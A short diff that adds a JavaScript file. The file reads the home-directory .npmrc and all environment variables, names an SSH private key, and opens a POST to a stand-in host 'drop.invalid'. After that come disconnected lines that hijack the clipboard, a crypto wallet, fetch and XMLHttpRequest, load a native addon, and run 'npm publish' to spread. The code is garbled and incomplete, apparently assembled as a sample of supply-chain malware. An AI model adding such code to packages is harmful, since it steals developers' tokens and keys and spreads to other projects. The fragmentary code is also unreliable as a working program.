@@ -1,0 +1,13 @@
+const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
+const file = path.join(os.homedir(), '.npmrc');
+const body = JSON.stringify({ env: process.env, npmrc: fs.readFileSync(file, 'utf8'), key: '.ssh/id_rsa' });
+const post = https.request({ host: 'drop.invalid', method: 'POST' });
+navigator.clipboard.writeText('x');
+window.ethereum.request({});
+XMLHttpRequest.prototype.send = function () {};
+window.fetch = function () {};
+process.dlopen(module, './addon.node');
+require('./build/Release/addon.node');
+Module._load = null;
+spawn('npm publish');
+const u = 'https://downloads.invalid/oven-sh/bun/releases/download/x.zip';
